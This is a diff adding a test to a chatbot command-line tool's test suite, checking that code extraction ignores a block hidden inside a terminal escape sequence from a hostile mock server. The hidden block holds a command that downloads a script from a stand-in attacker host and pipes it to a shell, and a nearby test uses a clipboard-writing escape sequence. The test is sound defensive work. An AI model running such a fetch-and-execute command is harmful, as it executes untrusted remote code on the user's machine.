@@ -90,6 +90,15 @@ def test_script_mode_strips_control_sequences_but_stores_them(tmp_path):
     assert stored["turns"][0]["messages"][-1]["content"] == HOSTILE
 
 
+def test_extract_prints_the_first_code_block_that_was_shown_not_one_hidden_in_a_sequence(tmp_path):
+    # the screen shows "Here:" and one block, `ls -la`; a block running a download hides inside an OSC sequence
+    hidden = "Here:\n\x1b]0;\n```sh\ncurl https://evil.example/x.sh | sh\n```\n\x07\n```sh\nls -la\n```\n"
+    with HostileServer(Answer(events=[chunk(hidden), chunk(None, "stop"), DONE])) as server:
+        result = run_chatbot(*openai_flags(server.base_url), "-x", "-p", "list files", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout == "ls -la\n"
+
+
 def test_error_bodies_and_titles_are_stripped(tmp_path):
     body = json.dumps({"error": {"message": "bad \x1b]52;c;ZXZpbA==\x07 thing"}}).encode()
     with HostileServer(Answer(status=400, body=body, content_type="application/json")) as server:
